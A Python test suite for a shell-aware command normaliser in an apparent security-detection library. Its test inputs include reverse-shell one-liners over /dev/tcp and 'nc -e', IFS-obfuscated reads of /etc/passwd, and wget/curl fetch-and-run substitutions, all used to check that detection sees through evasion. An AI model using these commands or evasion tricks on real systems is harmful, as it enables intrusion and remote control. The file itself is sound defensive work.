"""Shell-aware normalisation: what a POSIX shell would run, bounded and linear."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditstream.detections.exec.shell_lexer import Redirect, lex
from auditstream.detections.exec.shell_words import (
    MAX_COMMANDS,
    MAX_DEPTH,
    MAX_SCRIPT_BYTES,
    SimpleCommand,
    normalise,
    shell_script,
)


def argvs(script: str, shell: str = "sh") -> list[tuple[str, ...]]:
    return [c.argv for c in normalise([shell, "-c", script])]


def one(script: str) -> SimpleCommand:
    found = normalise(["sh", "-c", script])
    assert len(found) == 1, found
    return found[0]


def test_plain_argv_is_taken_as_is() -> None:
    """No shell, no quote removal: the program receives these exact words."""
    (cmd,) = normalise(["python3", "-c", "print('a b')", "$IFS"])
    assert cmd.argv == ("python3", "-c", "print('a b')", "$IFS")
    assert cmd.text == "python3 -c print('a b') $IFS"


@pytest.mark.parametrize(
    ("script", "argv"),
    [
        ("echo 'a  b' \"c $d\" e\\ f", ("echo", "a  b", "c $d", "e f")),
        ('echo "a\\"b" "\\$x" "\\q"', ("echo", 'a"b', "$x", "\\q")),
        ("n''c -e /bin/sh", ("nc", "-e", "/bin/sh")),
        ('n"c" -\\e sh', ("nc", "-e", "sh")),
        ("echo $'\\x6e\\x63' $'a\\tb' $'\\101'", ("echo", "nc", "a\tb", "A")),
        ("ec\\\nho hi", ("echo", "hi")),
        ('echo ""', ("echo", "")),
    ],
)
def test_quote_and_escape_removal(script: str, argv: tuple[str, ...]) -> None:
    assert one(script).argv == argv


@pytest.mark.parametrize(
    "script",
    ["cat${IFS}/etc/passwd", "cat$IFS/etc/passwd", "cat${IFS%??}/etc/passwd", "cat\t/etc/passwd"],
)
def test_ifs_is_a_field_separator(script: str) -> None:
    assert one(script).argv == ("cat", "/etc/passwd")


def test_ifs_inside_double_quotes_is_a_space() -> None:
    assert one('echo "a${IFS}b"').argv == ("echo", "a b")


def test_brace_expansion_of_a_plain_list() -> None:
    assert one("{nc,-e,/bin/sh,1.2.3.4,4444}").argv == ("nc", "-e", "/bin/sh", "1.2.3.4", "4444")
    assert one("echo '{a,b}'").argv == ("echo", "{a,b}")


def test_split_on_every_control_operator() -> None:
    found = normalise(["bash", "-c", "a; b && c || d | e & f\ng |& h ( i ) ;; j"])
    assert [c.argv[0] for c in found] == list("abcdefghij")
    pipes = {c.argv[0]: (c.pipeline, c.stage) for c in found}
    assert pipes["d"][0] == pipes["e"][0] and pipes["e"][1] == 1
    assert pipes["g"][0] == pipes["h"][0] and pipes["a"][0] != pipes["b"][0]


def test_redirections_are_attributes() -> None:
    cmd = one("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 2>>log <>/dev/udp/h/1 &>out")
    assert cmd.argv == ("bash", "-i")
    assert cmd.redirects == (
        Redirect(">&", "/dev/tcp/1.2.3.4/4444"),
        Redirect(">&", "1", 0),
        Redirect(">>", "log", 2),
        Redirect("<>", "/dev/udp/h/1"),
        Redirect("&>", "out"),
    )
    assert cmd.normalised == "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 2>> log <> /dev/udp/h/1 &> out"


def test_quoted_digits_are_not_an_io_number() -> None:
    cmd = one("echo '2'>f")
    assert cmd.argv == ("echo", "2") and cmd.redirects == (Redirect(">", "f"),)


def test_comment_is_dropped_but_text_kept() -> None:
    cmd = one("bash -i >& /dev/tcp/1.2.3.4/1 0>&1 # /dev/tcp/localhost/8080")
    assert all("localhost" not in r.target for r in cmd.redirects)
    assert "localhost" in cmd.text


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "id"],
        ["/bin/bash", "-lc", "id"],
        ["bash", "--norc", "-o", "pipefail", "-ec", "id"],
        ["busybox", "sh", "-c", "id"],
        ["env", "-i", "A=1", "/usr/bin/zsh", "-c", "id"],
        ["nohup", "timeout", "-s", "KILL", "5", "ash", "-c", "id"],
        ["sudo", "-u", "root", "dash", "-c", "--", "id"],
        ["sh", "-c", "sh -c 'bash -c \"exec id\"'"],
        ["sh", "-c", "eval 'id'"],
        ["su", "-c", "id", "root"],
        ["bash", "-c", "bash <<< 'id'"],
        ["bash", "-c", "sh <<EOF\nid\nEOF"],
    ],
)
def test_wrappers_and_nested_shells_unwrap_to_the_command(argv: list[str]) -> None:
    assert ("id",) in [c.argv for c in normalise(argv)]


def test_wrappers_are_recorded() -> None:
    (cmd,) = normalise(["nohup", "busybox", "nc", "h", "1", "-e", "sh"])
    assert cmd.argv[0] == "nc" and cmd.wrappers == ("nohup", "busybox")


def test_command_substitution_and_process_substitution_are_followed() -> None:
    found = argvs("X=$(curl -s https://a/x) bash <(wget -qO- https://b/y) `id`")
    assert ("curl", "-s", "https://a/x") in found
    assert ("wget", "-qO-", "https://b/y") in found
    assert ("id",) in found


def test_heredoc_body_is_attached_to_an_interpreter() -> None:
    (cmd,) = normalise(["bash", "-c", "python3 - <<'EOF'\nimport socket\nEOF"])
    assert cmd.argv == ("python3", "-") and cmd.redirects[0].body == "import socket"


def test_exec_with_only_a_redirect_keeps_the_exec_word() -> None:
    cmd = one("exec 5<>/dev/tcp/10.0.0.1/4444")
    assert cmd.argv == ("exec",) and cmd.redirects == (Redirect("<>", "/dev/tcp/10.0.0.1/4444", 5),)


def test_shell_script_option_parsing() -> None:
    assert shell_script(["bash", "-x", "-c", "id", "name"]) == "id"
    assert shell_script(["bash", "script.sh", "-c", "id"]) is None
    assert shell_script(["sh", "-i"]) is None
    assert shell_script(["sh", "-c"]) is None


def test_unterminated_constructs_do_not_raise() -> None:
    for script in ["echo 'a", 'echo "a', "echo $(a", "echo `a", "echo ${a", "a <", "cat <<E\nx"]:
        normalise(["sh", "-c", script])


def test_huge_input_is_bounded_and_fast() -> None:
    script = "a;" * 200_000 + "x" * 100_000 + "$(" * 50_000
    started = time.perf_counter()
    found = normalise(["sh", "-c", script, *(["y"] * 50_000)])
    assert time.perf_counter() - started < 5
    assert len(found) <= MAX_COMMANDS
    assert sum(len(w) for c in found for w in c.argv) <= 2 * MAX_SCRIPT_BYTES


def test_deep_nesting_is_bounded() -> None:
    script = "id"
    for _ in range(8):  # quoting grows geometrically; 8 levels already exceed MAX_DEPTH
        script = "sh -c " + "'" + script.replace("'", "'\\''") + "'"
    assert normalise(["sh", "-c", script])  # past the depth bound the wrapper itself is kept
    substituted = "echo $(" * 5000 + "id" + ")" * 5000
    found = normalise(["sh", "-c", substituted])
    assert 1 <= len(found) <= MAX_DEPTH + 1


def test_lexer_keeps_source_text_per_command() -> None:
    texts = [c.text for c in lex("a 1;  b 'x y' | c")]
    assert texts == ["a 1", "b 'x y'", "c"]


_SHELLY = st.text(alphabet="ab $'\"\\`(){};&|<>#\n\t0123456789IFS=-c", max_size=300)


@settings(max_examples=300)
@given(script=_SHELLY, extra=st.lists(st.text(max_size=20), max_size=4))
def test_never_raises_and_output_is_bounded(script: str, extra: list[str]) -> None:
    found = normalise(["bash", "-c", script, *extra])
    assert len(found) <= MAX_COMMANDS
    assert sum(len(w) for c in found for w in c.argv) <= 2 * MAX_SCRIPT_BYTES
    assert all(isinstance(c.normalised, str) for c in found)


@given(words=st.lists(st.text(alphabet="abc-/.:=", min_size=1, max_size=8), min_size=1))
def test_single_quoted_words_survive_unchanged(words: list[str]) -> None:
    script = " ".join("'" + w + "'" for w in words)
    (cmd,) = normalise(["sh", "-c", "x " + script])
    assert cmd.argv == ("x", *words)
